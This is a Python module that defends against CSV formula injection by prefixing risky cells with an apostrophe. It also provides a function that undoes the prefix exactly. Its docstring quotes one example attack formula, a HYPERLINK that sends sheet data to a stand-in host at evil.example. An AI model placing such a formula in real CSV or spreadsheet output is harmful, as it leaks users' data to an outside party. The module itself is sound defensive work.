"""Spreadsheet formula neutralisation of CSV cells (CSV injection, OWASP).

Function, process and thread names come from modules and machines the user
does not control.  A spreadsheet that opens a CSV evaluates a cell starting
with ``=``, ``+``, ``-`` or ``@`` (tab and carriage return too, in some) as a
formula -- ``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet
away -- and quoting the cell does not stop it.  So every CSV tracebridge
writes prefixes such a cell with ``'``, as OWASP recommends, unless it is a
number (``-12``, ``+1.5e3``); ``--csv-raw`` writes cells as they are.

The prefix can be undone exactly (:func:`restored`, used where tracebridge
reads its own CSV back): a cell that already starts with quotes followed by
a trigger gets one more, so no two cells are written alike.
"""

from __future__ import annotations

import re
from typing import TypeVar

T = TypeVar("T")

#: The first characters a spreadsheet may take for a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    return text.lstrip("'")[:1] in TRIGGERS and _NUMBER.fullmatch(text) is None


def neutral(value: T) -> T:
    """``value`` as it may stand in a CSV cell: a string that a spreadsheet would evaluate gets a ``'``."""
    if isinstance(value, str) and value and _needs_quote(value):
        return "'" + value  # type: ignore[return-value]
    return value


def restored(text: str) -> str:
    """The cell :func:`neutral` was given, from what it wrote."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text
